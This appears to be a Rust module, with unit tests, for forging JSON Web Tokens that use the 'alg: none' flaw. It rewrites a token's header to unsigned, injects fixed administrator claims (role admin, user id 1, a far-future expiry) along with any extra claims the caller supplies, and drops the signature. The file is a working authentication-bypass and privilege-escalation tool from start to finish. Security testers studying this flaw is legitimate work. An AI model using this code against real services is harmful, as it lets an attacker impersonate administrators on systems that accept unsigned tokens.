//! alg:none JWT forgery.
//!
//! Splits a token into its three segments, rewrites the header to the
//! unsigned form, overlays claim overrides on a copy of the payload, and
//! re-joins with an explicitly empty signature segment.

use base64::engine::general_purpose::{URL_SAFE, URL_SAFE_NO_PAD};
use base64::Engine;
use serde_json::Value;

use crate::error::JwtError;
use crate::Claims;

/// Result of a forgery: the decoded originals plus the rewritten token.
#[derive(Debug, Clone)]
pub struct ForgedToken {
    pub original_header: Claims,
    pub original_payload: Claims,
    pub header: Claims,
    pub payload: Claims,
    /// `base64url(header).base64url(payload).` — empty signature segment.
    pub token: String,
}

/// Claim overrides applied to every forged payload.
fn privilege_overrides() -> [(&'static str, Value); 4] {
    [
        ("nameid", Value::from("1")),
        ("unique_name", Value::from("admin@example.com")),
        ("role", Value::from("admin")),
        ("exp", Value::from(1_999_999_999u64)),
    ]
}

/// Encode a claim set as an unpadded base64url JSON segment.
pub fn b64url_encode(claims: &Claims) -> Result<String, JwtError> {
    let raw = serde_json::to_vec(claims)?;
    Ok(URL_SAFE_NO_PAD.encode(raw))
}

/// Decode a base64url JSON segment, restoring stripped padding.
pub fn b64url_decode(segment: &str) -> Result<Claims, JwtError> {
    let raw = URL_SAFE.decode(pad(segment))?;
    match serde_json::from_slice(&raw)? {
        Value::Object(map) => Ok(map),
        _ => Err(JwtError::NotAnObject),
    }
}

fn pad(segment: &str) -> String {
    match segment.len() % 4 {
        0 => segment.to_string(),
        rem => format!("{}{}", segment, "=".repeat(4 - rem)),
    }
}

/// Forge an unsigned variant of `token`.
///
/// The original payload is never mutated; overrides land on a copy. `extra`
/// pairs are overlaid after the fixed privilege overrides, so a caller can
/// retarget individual claims.
pub fn forge_alg_none(token: &str, extra: &[(String, Value)]) -> Result<ForgedToken, JwtError> {
    let parts: Vec<&str> = token.split('.').collect();
    if parts.len() != 3 {
        return Err(JwtError::PartCount(parts.len()));
    }

    let original_header = b64url_decode(parts[0])?;
    let original_payload = b64url_decode(parts[1])?;

    let mut payload = original_payload.clone();
    for (key, value) in privilege_overrides() {
        payload.insert(key.to_string(), value);
    }
    for (key, value) in extra {
        payload.insert(key.clone(), value.clone());
    }

    let mut header = Claims::new();
    header.insert("alg".into(), Value::from("none"));
    header.insert("typ".into(), Value::from("JWT"));

    let token = format!("{}.{}.", b64url_encode(&header)?, b64url_encode(&payload)?);

    Ok(ForgedToken {
        original_header,
        original_payload,
        header,
        payload,
        token,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const VECTOR: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.sig";

    #[test]
    fn forges_known_vector() {
        let forged = forge_alg_none(VECTOR, &[]).unwrap();

        assert!(forged.token.ends_with('.'));
        let parts: Vec<&str> = forged.token.split('.').collect();
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[2], "");

        let header = b64url_decode(parts[0]).unwrap();
        assert_eq!(Value::Object(header), json!({"alg": "none", "typ": "JWT"}));

        let payload = b64url_decode(parts[1]).unwrap();
        assert_eq!(
            Value::Object(payload),
            json!({
                "sub": "x",
                "nameid": "1",
                "unique_name": "admin@example.com",
                "role": "admin",
                "exp": 1999999999u64,
            })
        );
    }

    #[test]
    fn original_payload_is_untouched() {
        let forged = forge_alg_none(VECTOR, &[]).unwrap();
        assert_eq!(Value::Object(forged.original_payload), json!({"sub": "x"}));
        assert_eq!(
            forged.original_header.get("alg"),
            Some(&Value::from("HS256"))
        );
    }

    #[test]
    fn extra_claims_win_over_defaults() {
        let extra = vec![("role".to_string(), Value::from("auditor"))];
        let forged = forge_alg_none(VECTOR, &extra).unwrap();
        assert_eq!(forged.payload.get("role"), Some(&Value::from("auditor")));
        // The other fixed overrides still apply.
        assert_eq!(forged.payload.get("nameid"), Some(&Value::from("1")));
    }

    #[test]
    fn rejects_wrong_part_count() {
        assert!(matches!(
            forge_alg_none("a.b", &[]),
            Err(JwtError::PartCount(2))
        ));
        assert!(matches!(
            forge_alg_none("a.b.c.d", &[]),
            Err(JwtError::PartCount(4))
        ));
    }

    #[test]
    fn rejects_non_json_segment() {
        // Valid base64 ("AQAB") but not JSON.
        let err = forge_alg_none("AQAB.eyJzdWIiOiJ4In0.sig", &[]).unwrap_err();
        assert!(matches!(err, JwtError::Json(_)));
    }

    #[test]
    fn rejects_non_object_segment() {
        // base64url("[1,2]") — JSON, but not an object.
        let seg = URL_SAFE_NO_PAD.encode(b"[1,2]");
        let token = format!("{seg}.eyJzdWIiOiJ4In0.sig");
        assert!(matches!(
            forge_alg_none(&token, &[]),
            Err(JwtError::NotAnObject)
        ));
    }

    #[test]
    fn decode_restores_stripped_padding() {
        let mut claims = Claims::new();
        claims.insert("k".into(), Value::from("v"));
        let encoded = b64url_encode(&claims).unwrap();
        assert!(!encoded.contains('='));
        assert_eq!(b64url_decode(&encoded).unwrap(), claims);
    }
}
